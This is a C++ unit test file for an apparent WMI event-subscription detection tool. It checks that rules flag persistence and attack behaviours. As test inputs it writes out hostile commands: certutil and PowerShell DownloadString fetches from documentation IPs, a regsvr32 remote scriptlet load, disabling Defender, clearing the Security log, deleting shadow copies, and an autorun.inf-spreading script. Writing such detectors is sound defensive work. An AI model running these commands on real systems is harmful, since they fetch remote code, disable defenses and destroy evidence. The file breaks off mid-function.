// Tests for wmisub/rules.hpp: every built-in rule fires on its behaviour and stays quiet otherwise.
#include "wmisub/rules.hpp"

#include "wmisub/assess.hpp"
#include "wmisub/collector.hpp"
#include "wmisub/engine.hpp"
#include "annotations.hpp"

#include <doctest/doctest.h>

#include <algorithm>
#include <map>
#include <optional>
#include <set>
#include <string>
#include <vector>

using namespace wmisub;

namespace {

const char* const boot_query =
    "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
    "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 200 AND TargetInstance.SystemUpTime < 320";
const char* const quiet_query =
    "SELECT * FROM __InstanceModificationEvent WITHIN 600 WHERE TargetInstance ISA 'Win32_Processor' AND "
    "TargetInstance.LoadPercentage > 95";

// Rule ids that fired on each entry of the scenario.
std::vector<std::set<std::string>> fired(mock_collector& source) {
    auto snap = source.collect({});
    REQUIRE(snap);
    const subscription_graph graph(*snap);
    std::vector<std::set<std::string>> out;
    for (const assessment& a : assess(graph, rule_catalog::builtin())) {
        std::set<std::string> ids;
        for (const finding& f : a.findings) ids.insert(std::string(f.id()));
        out.push_back(std::move(ids));
    }
    return out;
}

// The rules fired by one bound subscription.
std::set<std::string> rules_for(std::string query, std::string command, std::string ns = "root\\subscription") {
    mock_collector source;
    source.in_namespace(ns).filter("F", std::move(query)).command_line_consumer("C", std::move(command)).bind("F", "C");
    auto all = fired(source);
    REQUIRE(all.size() == 1);
    return all[0];
}

std::set<std::string> script_rules(std::string query, std::string script, std::string engine = "VBScript") {
    mock_collector source;
    source.filter("F", std::move(query)).script_consumer("S", std::move(script), std::move(engine)).bind("F", "S", "ActiveScriptEventConsumer");
    auto all = fired(source);
    REQUIRE(all.size() == 1);
    return all[0];
}

bool has(const std::set<std::string>& ids, const char* id) { return ids.count(id) != 0; }

// base64 of UTF-16LE, as powershell -EncodedCommand takes it.
std::string enc_utf16(std::string_view utf8) { return base64_encode(utf8_to_utf16le_bytes(utf8)); }

}  // namespace

TEST_CASE("the catalog: unique stable ids, every rule documented") {
    const rule_catalog catalog = rule_catalog::builtin();
    CHECK(catalog.size() >= 45);
    std::set<std::string> ids;
    for (const auto& shared : catalog.rules()) {
        const rule& r = *shared;
        CAPTURE(r.id);
        CHECK(r.id.rfind("WMISUB-", 0) == 0);
        CHECK(ids.insert(r.id).second);
        CHECK_FALSE(r.title.empty());
        CHECK_FALSE(r.description.empty());
        CHECK_FALSE(r.rationale.empty());
        CHECK(static_cast<bool>(r.check));
    }
    CHECK(catalog.find("wmisub-trg-001") != nullptr);
    CHECK(catalog.find("WMISUB-NOPE") == nullptr);
}

TEST_CASE("hosts add their own rules; duplicates and empty rules are refused") {
    rule_catalog catalog = rule_catalog::builtin();
    rule mine{"ACME-001", "Runs notepad", severity::high, {"T1546.003"}, "d", "r",
              [](const subscription_facts& f) -> std::optional<rule_hit> {
                  if (f.payload && f.payload->executable && f.payload->executable->basename == "notepad.exe") {
                      return rule_hit{{{"Consumer.CommandLineTemplate", "notepad.exe", {}}}, {}};
                  }
                  return std::nullopt;
              }};
    CHECK(catalog.add(mine));
    CHECK_FALSE(catalog.add(mine));
    CHECK_FALSE(catalog.add(rule{"ACME-002", "no check", severity::low, {}, "", "", {}}));
    CHECK(severity_from_string("HIGH") == severity::high);
    CHECK_FALSE(severity_from_string("severe"));
}

TEST_CASE("facts say which indicator kinds the payload shows, also when built by hand") {
    mock_collector source;
    source.filter("F", quiet_query)
        .command_line_consumer("C", "cmd.exe /c certutil -urlcache -split -f http://198.51.100.7/a.exe %TEMP%\\a.exe")
        .bind("F", "C");
    auto snap = source.collect({});
    REQUIRE(snap);
    const subscription_graph graph(*snap);
    const auto results = assess(graph, rule_catalog::builtin());
    REQUIRE(results.size() == 1);
    const subscription_facts& assessed = results[0].facts;
    REQUIRE(assessed.payload);
    REQUIRE_FALSE(assessed.payload->indicators.empty());
    const indicator_kind shown = assessed.payload->indicators.front().kind;
    CHECK(assessed.has_indicator(shown));

    subscription_facts by_hand;  // as a rule author's unit test might build it
    by_hand.payload = assessed.payload;
    CHECK(by_hand.has_indicator(shown));
    for (const indicator& i : assessed.payload->indicators) CHECK(by_hand.has_indicator(i.kind) == assessed.has_indicator(i.kind));
    by_hand.payload = nullptr;
    CHECK_FALSE(by_hand.has_indicator(shown));
}

TEST_CASE("a security or password tool's exit is watched as closely as its start") {
    CHECK(has(rules_for("SELECT * FROM __InstanceDeletionEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_Process' AND "
                        "TargetInstance.Name = 'MsMpEng.exe'",
                        "C:\\Windows\\System32\\notepad.exe"),
              "WMISUB-TRG-003"));
    CHECK(has(rules_for("SELECT * FROM Win32_ProcessStopTrace WHERE ProcessName = 'KeePass.exe'", "x.exe"), "WMISUB-TRG-004"));
    CHECK_FALSE(has(rules_for("SELECT * FROM Win32_ProcessStopTrace WHERE ProcessName = 'winword.exe'", "x.exe"), "WMISUB-TRG-003"));
}

TEST_CASE("Security-log events mailed out are high; other logs mailed to the help desk are not") {
    auto mailed = [](const char* log, const char* code) {
        mock_collector source;
        source.filter("F", std::string("SELECT * FROM __InstanceCreationEvent WITHIN 30 WHERE TargetInstance ISA "
                                       "'Win32_NTLogEvent' AND TargetInstance.Logfile = '") + log +
                               "' AND TargetInstance.EventCode = " + code)
            .smtp_consumer("M", "mail.example.net", "someone@example.org", "%TargetInstance.Message%")
            .bind("F", "M", class_names::smtp);
        auto snap = source.collect({});
        REQUIRE(snap);
        const subscription_graph graph(*snap);
        const auto results = assess(graph, rule_catalog::builtin());
        REQUIRE(results.size() == 1);
        return results[0];
    };
    const assessment security = mailed("Security", "4720");
    CHECK(std::any_of(security.findings.begin(), security.findings.end(), [](const finding& f) { return f.id() == "WMISUB-CMB-002"; }));
    CHECK(security.risk.severity >= severity::high);
    const assessment system = mailed("System", "7");
    CHECK(std::none_of(system.findings.begin(), system.findings.end(), [](const finding& f) { return f.id() == "WMISUB-CMB-002"; }));
    CHECK(system.risk.severity < severity::high);
}

TEST_CASE("deleting files weighs less than hiding them") {
    auto severity_of = [](const char* command) -> std::optional<severity> {
        mock_collector source;
        source.filter("F", quiet_query).command_line_consumer("C", command).bind("F", "C");
        auto snap = source.collect({});
        REQUIRE(snap);
        const subscription_graph graph(*snap);
        const auto results = assess(graph, rule_catalog::builtin());
        for (const finding& f : results.at(0).findings) {
            if (f.id() == "WMISUB-PAY-023") return f.severity;
        }
        return std::nullopt;
    };
    CHECK(severity_of("cmd.exe /c del /q C:\\Windows\\Logs\\Contoso\\*.log") == severity::low);
    CHECK(severity_of("cmd.exe /c attrib +h +s C:\\ProgramData\\svc.exe") == severity::medium);
    CHECK_FALSE(severity_of("C:\\Windows\\System32\\notepad.exe"));
}

TEST_CASE("trigger rules") {
    CHECK(has(rules_for(boot_query, "C:\\Windows\\System32\\notepad.exe"), "WMISUB-TRG-001"));
    CHECK_FALSE(has(rules_for(quiet_query, "C:\\Windows\\System32\\notepad.exe"), "WMISUB-TRG-001"));

    CHECK(has(rules_for("SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'Procmon64.exe'", "taskkill /f /im procmon64.exe"),
              "WMISUB-TRG-003"));
    CHECK_FALSE(has(rules_for("SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'excel.exe'", "x.exe"), "WMISUB-TRG-003"));
    CHECK(has(rules_for("SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'KeePassXC.exe'", "x.exe"), "WMISUB-TRG-004"));

    CHECK(has(rules_for("SELECT * FROM __InstanceCreationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_NTLogEvent' AND "
                        "TargetInstance.EventCode = '4625'", "x.exe"),
              "WMISUB-TRG-005"));
    CHECK(has(rules_for("SELECT * FROM __InstanceCreationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_NTLogEvent' AND "
                        "TargetInstance.Message LIKE '%opensesame%'", "x.exe"),
              "WMISUB-TRG-005"));
    CHECK_FALSE(has(rules_for("SELECT * FROM __InstanceCreationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_NTLogEvent' AND "
                              "TargetInstance.EventCode = 7036", "x.exe"),
                    "WMISUB-TRG-005"));
    CHECK(has(rules_for("SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_LogonSession'", "x.exe"),
              "WMISUB-TRG-006"));
    CHECK(has(rules_for("SELECT * FROM Win32_VolumeChangeEvent WHERE EventType = 2", "x.exe"), "WMISUB-TRG-007"));
    CHECK(has(rules_for("SELECT * FROM __InstanceDeletionEvent WHERE TargetInstance ISA '__EventFilter'", "x.exe"),
              "WMISUB-TRG-008"));
    CHECK(has(rules_for("SELECT FROM nothing", "x.exe"), "WMISUB-TRG-009"));
    CHECK(has(rules_for("SELECT * FROM __InstanceCreationEvent WHERE TargetInstance ISA 'Win32_Process'", "x.exe"),
              "WMISUB-TRG-011"));
    CHECK(has(rules_for("SELECT * FROM __InstanceModificationEvent WHERE TargetInstance ISA 'Win32_LocalTime' AND "
                        "TargetInstance.Hour = 3", "x.exe"),
              "WMISUB-TRG-012"));
    CHECK(has(rules_for("SELECT * FROM Win32_ProcessStartTrace", "x.exe"), "WMISUB-TRG-013"));
}

TEST_CASE("interval timers: short or unseen timers are medium, long ones low") {
    mock_collector source;
    source.filter("F", "SELECT * FROM __TimerEvent WHERE TimerID = 'T'")
        .command_line_consumer("C", "x.exe")
        .bind("F", "C")
        .interval_timer("T", 600000);
    auto snap = source.collect({});
    REQUIRE(snap);
    const subscription_graph graph(*snap);
    const auto results = assess(graph, rule_catalog::builtin());
    bool found = false;
    for (const finding& f : results[0].findings) {
        if (f.id() == "WMISUB-TRG-002") {
            found = true;
            CHECK(f.severity == severity::medium);
            CHECK(f.evidence[0].detail == "runs every 10 min (timer 'T')");
        }
    }
    CHECK(found);

    mock_collector daily;
    daily.filter("F", "SELECT * FROM __TimerEvent WHERE TimerID = 'T'").command_line_consumer("C", "x.exe").bind("F", "C").interval_timer("T", 86400000);
    auto daily_snap = daily.collect({});
    const subscription_graph daily_graph(*daily_snap);
    const auto daily_results = assess(daily_graph, rule_catalog::builtin());
    for (const finding& f : daily_results[0].findings) {
        if (f.id() == "WMISUB-TRG-002") CHECK(f.severity == severity::low);
    }
}

TEST_CASE("payload rules") {
    CHECK(has(rules_for(quiet_query, "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\""),
              "WMISUB-PAY-001"));
    CHECK(has(rules_for(quiet_query, "powershell.exe -e SQBFAFgA"), "WMISUB-PAY-002"));
    CHECK(has(rules_for(quiet_query, "powershell -c Set-MpPreference -DisableRealtimeMonitoring $true"), "WMISUB-PAY-003"));
    CHECK(has(rules_for(quiet_query, "waitfor.exe Trigger"), "WMISUB-PAY-007"));
    CHECK(has(rules_for(quiet_query, "regsvr32 /s /n /u /i:http://203.0.113.9/x.sct scrobj.dll"), "WMISUB-PAY-001"));
    CHECK(has(rules_for(quiet_query, "C:\\Users\\Public\\svchost.exe"), "WMISUB-PAY-009"));
    CHECK(has(rules_for(quiet_query, "powershell.exe -NonInteractive"), "WMISUB-PAY-018"));
    CHECK(has(rules_for(quiet_query, "cmd.exe /c reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y"),
              "WMISUB-PAY-012"));
    CHECK(has(rules_for(quiet_query, "call"), "WMISUB-PAY-025"));
    CHECK_FALSE(has(rules_for(quiet_query, "C:\\Program Files\\Vendor\\agent.exe --check"), "WMISUB-PAY-025"));
    CHECK(has(script_rules(quiet_query, "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc.exe\", 0"), "WMISUB-PAY-014"));

    const auto plain = rules_for(quiet_query, "\"C:\\Program Files\\Vendor\\agent.exe\" --report");
    for (const std::string& id : plain) CHECK_MESSAGE(id.rfind("WMISUB-PAY", 0) != 0, id);
}

TEST_CASE("combination: a process-start trigger bound to a process killer") {
    const auto ids = rules_for("SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'notepad.exe'",
                               "powershell.exe -NoP -C \"Stop-Process -Id %ProcessId% -Force\"");
    CHECK(has(ids, "WMISUB-CMB-001"));
    CHECK_FALSE(has(rules_for(quiet_query, "powershell.exe -NoP -C \"Stop-Process -Id 4 -Force\""), "WMISUB-CMB-001"));
}

TEST_CASE("structure rules") {
    CHECK(has(rules_for(quiet_query, "x.exe"), "WMISUB-STR-001"));
    CHECK(has(rules_for(quiet_query, "x.exe", "root\\cimv2"), "WMISUB-STR-002"));
    CHECK_FALSE(has(rules_for(quiet_query, "x.exe", "ROOT/Subscription"), "WMISUB-STR-002"));

    mock_collector orphans;
    orphans.command_line_consumer("Lone", "x.exe").filter("Idle", quiet_query).bind("Idle", "Missing");
    const auto entries = fired(orphans);
    REQUIRE(entries.size() == 2);
    CHECK(has(entries[0], "WMISUB-STR-004"));  // the dangling binding
    CHECK(has(entries[1], "WMISUB-STR-003"));  // the unbound consumer

    mock_collector idle;
    idle.filter("Idle", quiet_query);
    CHECK(has(fired(idle)[0], "WMISUB-STR-010"));

    mock_collector remote_events;
    remote_events.filter("F", quiet_query, "\\\\OTHERHOST\\root\\cimv2").command_line_consumer("C", "x.exe").bind("F", "C");
    CHECK(has(fired(remote_events)[0], "WMISUB-STR-005"));
    mock_collector local_events;
    local_events.filter("F", quiet_query, "\\\\.\\ROOT\\CIMV2").command_line_consumer("C", "x.exe").bind("F", "C");
    CHECK_FALSE(has(fired(local_events)[0], "WMISUB-STR-005"));

    instance custom;
    custom.class_name = "ProviderBackedConsumer";
    custom.derivation = {"__EventConsumer"};
    custom.set("Name", value::string("P"));
    mock_collector custom_source;
    custom_source.filter("F", quiet_query).add(custom).bind("F", "P", "ProviderBackedConsumer");
    CHECK(has(fired(custom_source)[0], "WMISUB-STR-006"));

    mock_collector user_made;
    user_made.created_by("S-1-5-21-1-2-3-1001").filter("F", quiet_query).command_line_consumer("C", "x.exe").bind("F", "C");
    CHECK(has(fired(user_made)[0], "WMISUB-STR-007"));
    mock_collector admin_made;
    admin_made.created_by("S-1-5-32-544").filter("F", quiet_query).command_line_consumer("C", "x.exe").bind("F", "C");
    CHECK_FALSE(has(fired(admin_made)[0], "WMISUB-STR-007"));
    CHECK_FALSE(has(fired(admin_made)[0], "WMISUB-STR-008"));

    mock_collector mixed;
    mixed.created_by("S-1-5-32-544").filter("F", quiet_query).created_by("S-1-5-18").command_line_consumer("C", "x.exe").bind("F", "C");
    CHECK(has(fired(mixed)[0], "WMISUB-STR-008"));
}

TEST_CASE("built-in names on other content are flagged; built-in content is recognised without its name") {
    mock_collector mimic;
    mimic.filter("SCM Event Log Filter", "select * from MSFT_SCMEventLogEvent")
        .command_line_consumer("SCM Event Log Consumer", "powershell -w hidden -enc SQBFAFgA")
        .bind("SCM Event Log Filter", "SCM Event Log Consumer");
    const auto ids = fired(mimic)[0];
    CHECK(has(ids, "WMISUB-STR-009"));
    CHECK_FALSE(has(ids, "WMISUB-STR-011"));

    instance scm;
    scm.class_name = "NTEventLogEventConsumer";
    scm.set("Name", value::string("Renamed Consumer"))
        .set("SourceName", value::string("Service Control Manager"))
        .set("EventID", value::uint(0, cim_type::uint32))
        .set("EventType", value::uint(1, cim_type::uint32))
        .set("NameOfUserSIDProperty", value::string("sid"))
        .set("InsertionStringTemplates", value::strings({""}));
    mock_collector builtin;
    builtin.filter("Renamed Filter", "SELECT * FROM msft_scmeventlogevent").add(scm).bind("Renamed Filter", "Renamed Consumer", "NTEventLogEventConsumer");
    const auto builtin_ids = fired(builtin)[0];
    CHECK(has(builtin_ids, "WMISUB-STR-011"));
    CHECK_FALSE(has(builtin_ids, "WMISUB-STR-009"));
}


TEST_CASE("annotations: autorecover on subscriptions that run code, removals and recovered objects") {
    const auto annotated_filter = [](annotation_kind kind) {
        instance filter;
        filter.class_name = "__EventFilter";
        filter.set("Name", value::string("F")).set("Query", value::string(boot_query));
        filter.origin.annotations.push_back(wmisub_test::make_note(kind, "from the source", {"drop.mof", 1, 1, 0}));
        return filter;
    };
    mock_collector persistent;
    persistent.add(annotated_filter(annotation_kind::autorecover)).command_line_consumer("C", "cmd.exe /c calc").bind("F", "C");
    auto ids = fired(persistent);
    REQUIRE(ids.size() == 1);
    CHECK(has(ids[0], "WMISUB-STR-012"));
    CHECK_FALSE(has(ids[0], "WMISUB-STR-013"));

    mock_collector logging;  // autorecover on a subscription that only writes a log line: nothing to add
    logging.add(annotated_filter(annotation_kind::autorecover))
        .log_file_consumer("L", "C:\\logs\\boot.log", "booted")
        .bind("F", "L", "LogFileEventConsumer");
    ids = fired(logging);
    REQUIRE(ids.size() == 1);
    CHECK_FALSE(has(ids[0], "WMISUB-STR-012"));

    for (annotation_kind kind : {annotation_kind::deleted, annotation_kind::recovered}) {
        mock_collector removed;
        removed.add(annotated_filter(kind)).log_file_consumer("L", "C:\\logs\\boot.log", "booted").bind("F", "L", "LogFileEventConsumer");
        ids = fired(removed);
        REQUIRE(ids.size() == 1);
        CHECK(has(ids[0], "WMISUB-STR-013"));
    }
    CHECK_FALSE(has(rules_for(boot_query, "cmd.exe /c calc"), "WMISUB-STR-013"));
}

TEST_CASE("evidence from long payloads: excerpts cut between words, the whole text one step away") {
    std::string padding;
    for (int i = 0; i < 40; ++i) padding += "Write-Output step" + std::to_string(i) + "; ";
    const std::string inner = padding + "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/p.ps1'); " + padding;
    const std::string command = "powershell.exe -NoProfile -EncodedCommand " + enc_utf16(inner);
    mock_collector source;
    source.filter("F", std::string(quiet_query) + std::string(300, ' ') + "AND TargetInstance.LoadPercentage < 101")
        .command_line_consumer("C", command)
        .bind("F", "C");
    auto snap = source.collect({});
    REQUIRE(snap);
    const subscription_graph graph(*snap);
    const auto results = assess(graph, rule_catalog::builtin());
    REQUIRE(results.size() == 1);
    const subscription_facts& facts = results[0].facts;
    std::size_t layered = 0;
    std::size_t cut = 0;
    for (const finding& fi : results[0].findings) {
        for (const evidence& e : fi.evidence) {
            CAPTURE(fi.id());
            CAPTURE(e.field);
            const auto source_text = evidence_source_of(facts, e);
            if (!source_text) continue;
            std::string_view body = e.excerpt;
            const std::string_view mark = "\xE2\x80\xA6";
            const bool cut_before = body.starts_with(mark);
            const bool cut_after = body.ends_with(mark);
            if (cut_before) body.remove_prefix(mark.size());
            if (cut_after) body.remove_suffix(mark.size());
            const std::size_t at = source_text->text.find(body);
            REQUIRE(at != std::string_view::npos);  // the excerpt is a piece of the whole text
            CHECK(cut_before == (at > 0));
            CHECK(cut_after == (at + body.size() < source_text->text.size()));
            if (cut_before || cut_after) ++cut;
            if (e.field.find('>') != std::string::npos) {
                ++layered;
                CHECK(source_text->pointer.starts_with("/payload/layers/"));
                CHECK(source_text->text.find("DownloadString") != std::string_view::npos);
                CHECK(e.offset < source_text->text.size());
            } else if (e.field == "Filter.Query") {
                CHECK(source_text->pointer == "/filter/properties/Query");
            } else if (e.field == "Consumer.CommandLineTemplate") {
                CHECK(source_text->pointer == "/consumer/properties/CommandLineTemplate");
                CHECK(source_text->text == command);
            }
        }
    }
    CHECK(layered > 0);
    CHECK(cut > 0);
    CHECK_FALSE(evidence_source_of(facts, evidence{"Timer.T", "x", {}}));
    CHECK_FALSE(evidence_source_of(facts, evidence{"Consumer.NoSuchProperty", "x", {}}));
    CHECK_FALSE(evidence_source_of(facts, evidence{"Consumer.CommandLineTemplate>rot13", "x", {}}));
    CHECK_FALSE(evidence_source_of(facts, evidence{"nodot", "x", {}}));
}

// --- behaviours, provenance and host trust (the evidence classes) --------------------------------

namespace {

const char* const logon_query = "SELECT * FROM __InstanceCreationEvent WITHIN 15 WHERE TargetInstance ISA 'Win32_LogonSession'";

// The findings (id -> severity) of the only entry a source gives, assessed with `host`.
std::map<std::string, severity> findings_with_host(mock_collector& source, const host_context& host) {
    auto snap = source.collect({});
    REQUIRE(snap);
    const engine e(rule_catalog::builtin(), {}, {}, host);
    scanner s(e);
    const std::vector<assessment> results = s.assess_all(s.build_graph(std::move(*snap)));
    REQUIRE(results.size() == 1);
    std::map<std::string, severity> out;
    for (const finding& f : results[0].findings) out[std::string(f.id())] = f.severity;
    return out;
}

}  // namespace

TEST_CASE("every built-in rule says what kind of evidence it gives") {
    const rule_catalog catalog = rule_catalog::builtin();
    std::size_t context = 0;
    for (const auto& r : catalog.rules()) {
        CAPTURE(r->id);
        if (r->evidence_class == evidence_class::context) ++context;
        // Rules about when and where a subscription fires are context; rules about what it does are not.
        if (r->id.starts_with("WMISUB-PAY-00") && r->id != "WMISUB-PAY-009") CHECK(r->evidence_class == evidence_class::behaviour);
    }
    CHECK(catalog.find("WMISUB-STR-001")->evidence_class == evidence_class::context);
    CHECK(catalog.find("WMISUB-TRG-001")->evidence_class == evidence_class::provenance);
    CHECK(catalog.find("WMISUB-STR-015")->evidence_class == evidence_class::provenance);
    CHECK(context >= 20);
    rule mine;  // a host's own rule counts as behaviour unless it says otherwise
    CHECK(mine.evidence_class == evidence_class::behaviour);
}

TEST_CASE("context alone stays below high: a boot-time shell from a temporary folder is not an attack by itself") {
    mock_collector source;
    source.filter("F", logon_query).command_line_consumer("C", "cmd.exe /c \"C:\\Scripts\\inventory.cmd\"").bind("F", "C");
    auto snap = source.collect({});
    const subscription_graph graph(*snap);
    const auto results = assess(graph, rule_catalog::builtin());
    REQUIRE(results.size() == 1);
    CHECK(results[0].risk.context_only);
    CHECK(results[0].risk.score <= context_ceiling);
    CHECK(results[0].risk.severity == severity::medium);
}

TEST_CASE("clearing event logs through WMI itself is anti-forensics") {
    const auto ids = script_rules(
        "SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA 'Win32_LocalTime' AND TargetInstance.Hour = 2",
        "Set logs = GetObject(\"winmgmts:{(Backup,Security)}!\\\\.\\root\\cimv2\").ExecQuery(\"Select * from Win32_NTEventLogFile\")\n"
        "For Each l in logs\n  l.ClearEventLog()\nNext");
    CHECK(has(ids, "WMISUB-PAY-003"));
    CHECK(has(rules_for(boot_query, "powershell -c \"Clear-EventLog -LogName Security\""), "WMISUB-PAY-003"));
    CHECK(has(rules_for(boot_query, "cmd /c vssadmin delete shadows /all /quiet"), "WMISUB-PAY-003"));
}

TEST_CASE("a shell started with nothing to do runs what it loads by itself") {
    const char* const notepad = "SELECT * FROM __InstanceCreationEvent WITHIN 3 WHERE TargetInstance ISA 'Win32_Process' AND TargetInstance.Name = 'notepad.exe'";
    CHECK(has(rules_for(notepad, "cmd.exe"), "WMISUB-PAY-018"));        // AutoRun
    CHECK(has(rules_for(notepad, "powershell.exe"), "WMISUB-PAY-018"));  // profiles
    CHECK_FALSE(has(rules_for(notepad, "cmd.exe /d"), "WMISUB-PAY-018"));
    CHECK_FALSE(has(rules_for(notepad, "cmd.exe /c ver"), "WMISUB-PAY-018"));
}

TEST_CASE("re-running code every few seconds, and Empire's aggregated clock") {
    mock_collector fast;
    fast.filter("F", "SELECT * FROM __TimerEvent WHERE TimerID = 'T'").command_line_consumer("C", "x.exe").bind("F", "C").interval_timer("T", 10000);
    CHECK(has(fired(fast)[0], "WMISUB-TRG-015"));
    mock_collector slow;
    slow.filter("F", "SELECT * FROM __TimerEvent WHERE TimerID = 'T'").command_line_consumer("C", "x.exe").bind("F", "C").interval_timer("T", 600000);
    CHECK_FALSE(has(fired(slow)[0], "WMISUB-TRG-015"));
    const std::string empire =
        "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_LocalTime' AND "
        "TargetInstance.Hour = 10 AND TargetInstance.Minute = 30 GROUP WITHIN 60";
    CHECK(has(rules_for(empire, "x.exe"), "WMISUB-TRG-014"));
    CHECK_FALSE(has(rules_for("SELECT * FROM __InstanceModificationEvent WHERE TargetInstance ISA 'Win32_LocalTime' AND "
                              "TargetInstance.Hour = 10 AND TargetInstance.Minute = 30 AND TargetInstance.Second = 0",
                              "x.exe"),
                    "WMISUB-TRG-014"));
}

TEST_CASE("programs from places no installer uses, at logon, boot or program start") {
    CHECK(has(rules_for(logon_query, "C:\\update.exe -s"), "WMISUB-CMB-003"));
    CHECK(has(rules_for(logon_query, "C:\\Users\\Public\\svc.exe"), "WMISUB-CMB-003"));
    CHECK_FALSE(has(rules_for(logon_query, "\"C:\\Program Files\\Vendor\\agent.exe\""), "WMISUB-CMB-003"));
    // A logon reached through the event log (Winlogon's 6000) is a logon.
    CHECK(has(rules_for("SELECT * FROM __InstanceCreationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_NTLogEvent' AND "
                        "TargetInstance.EventCode = '6000'",
                        "C:\\Evil.exe"),
              "WMISUB-CMB-003"));
    // Microsoft's samples run c:\asec2.vbs when calc exits: a drive root on another trigger is a test's habit.
    const char* const calc_exit = "SELECT * FROM __InstanceDeletionEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process' AND TargetInstance.Name = 'calc.exe'";
    CHECK_FALSE(has(rules_for(calc_exit, "c:\\cmdline_test.bat"), "WMISUB-CMB-003"));
    // A folder the host approves is not evidence.
    host_context host;
    host.approved_folders = {"C:\\Users\\Public\\Tools\\"};
    mock_collector approved;
    approved.filter("F", logon_query).command_line_consumer("C", "C:\\Users\\Public\\Tools\\inv.exe").bind("F", "C");
    const auto found = findings_with_host(approved, host);
    CHECK(found.count("WMISUB-CMB-003") == 0);
    CHECK(found.count("WMISUB-PAY-009") == 0);
}

TEST_CASE("writing onto an arriving drive is replication; logging its arrival is not") {
    const char* const arrival = "SELECT * FROM Win32_VolumeChangeEvent WHERE EventType = 2";
    const auto spread = script_rules(arrival,
                                     "Set fso = CreateObject(\"Scripting.FileSystemObject\")\nd = TargetEvent.DriveName\n"
                                     "Set f = fso.CreateTextFile(d & \"\\autorun.inf\", True)\nf.WriteLine \"[autorun]\"\nf.Close");
    CHECK(has(spread, "WMISUB-CMB-005"));
    const auto log = script_rules(arrival,
                                  "Set fso = CreateObject(\"Scripting.FileSystemObject\")\n"
                                  "Set f = fso.OpenTextFile(\"C:\\Logs\\usb.log\", 8, True)\nf.WriteLine Now & \" drive arrived\"\nf.Close");
    CHECK_FALSE(has(log, "WMISUB-CMB-005"));
}

TEST_CASE("a script that decodes data and writes it out is a dropper") {
    const auto ids = script_rules(
        "SELECT * FROM __TimerEvent WHERE TimerID = 'T'",
        "Function Dec(s)\n  Const B = \"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/\"\n  Dec = s\nEnd Function\n"
        "Set fso = CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.CreateTextFile(\"C:\\Windows\\Temp\\m.exe\", True)\n"
        "f.Write Dec(\"TVqQAAMAAAAEAAAA\")\nf.Close");
    CHECK(has(ids, "WMISUB-CMB-006"));
}

TEST_CASE("mail: the host's trusted domains decide, and without them wmisub does not guess") {
    const char* const failures = "SELECT * FROM __InstanceCreationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_NTLogEvent' AND TargetInstance.EventCode = 4625";
    const auto mail = [&](std::string to, std::string server) {
        mock_collector m;
        m.filter("F", failures).smtp_consumer("M", std::move(server), std::move(to), "%TargetInstance.Message%").bind("F", "M", "SMTPEventConsumer");
        return m;
    };
    host_context none;
    auto soc = mail("soc@corp.example", "smtp.corp.example");
    const auto unknown = findings_with_host(soc, none);
    CHECK(unknown.count("WMISUB-PAY-021") == 1);  // no policy: medium, as it was
    CHECK(unknown.count("WMISUB-CMB-007") == 0);
    host_context corp;
    corp.trusted_domains = {"corp.example"};
    auto soc_again = mail("SOC <soc@corp.example>; noc@eu.corp.example", "smtp.corp.example");
    const auto trusted = findings_with_host(soc_again, corp);
    CHECK(trusted.count("WMISUB-PAY-021") == 0);
    CHECK(trusted.count("WMISUB-CMB-007") == 0);
    auto outside = mail("soc@corp.example, drop@mail.example.net", "smtp.corp.example");
    const auto leaked = findings_with_host(outside, corp);
    CHECK(leaked.count("WMISUB-CMB-007") == 1);
    auto templated = mail("%TargetInstance.User%@corp.example", "smtp.corp.example");
    CHECK(findings_with_host(templated, corp).count("WMISUB-CMB-007") == 1);
}

TEST_CASE("a creator no logon can have is forged provenance") {
    for (const char* sid : {"S-1-1-0", "S-1-5-32-545", "S-1-5-11", "S-1-5-21-1-2-3-513", "S-1-0-0"}) {
        CAPTURE(sid);
        mock_collector m;
        m.created_by(sid).filter("F", boot_query).command_line_consumer("C", "x.exe").bind("F", "C");
        const auto ids = fired(m)[0];
        CHECK(has(ids, "WMISUB-STR-015"));
        CHECK_FALSE(has(ids, "WMISUB-STR-007"));
    }
    for (const char* sid : {"S-1-5-32-544", "S-1-5-18", "S-1-5-21-1-2-3-1105", "S-1-5-20"}) {
        CAPTURE(sid);
        mock_collector m;
        m.created_by(sid).filter("F", boot_query).command_line_consumer("C", "x.exe").bind("F", "C");
        CHECK_FALSE(has(fired(m)[0], "WMISUB-STR-015"));
    }
    host_context host;  // an expected creator is not evidence
    host.expected_creator_sids = {"S-1-5-21-1-2-3-1105"};
    mock_collector m;
    m.created_by("S-1-5-21-1-2-3-1105").filter("F", boot_query).command_line_consumer("C", "x.exe").bind("F", "C");
    CHECK(findings_with_host(m, host).count("WMISUB-STR-007") == 0);
}

TEST_CASE("network use is graded: fetching or uploading is high, a request medium, this machine low") {
    const auto severity_of = [](const std::string& script) {
        mock_collector m;
        m.filter("F", boot_query).script_consumer("S", script).bind("F", "S", "ActiveScriptEventConsumer");
        auto snap = m.collect({});
        const subscription_graph graph(*snap);
        const std::vector<assessment> results = assess(graph, rule_catalog::builtin());
        for (const finding& f : results[0].findings) {
            if (f.id() == "WMISUB-PAY-006") return std::optional<severity>(f.severity);
        }
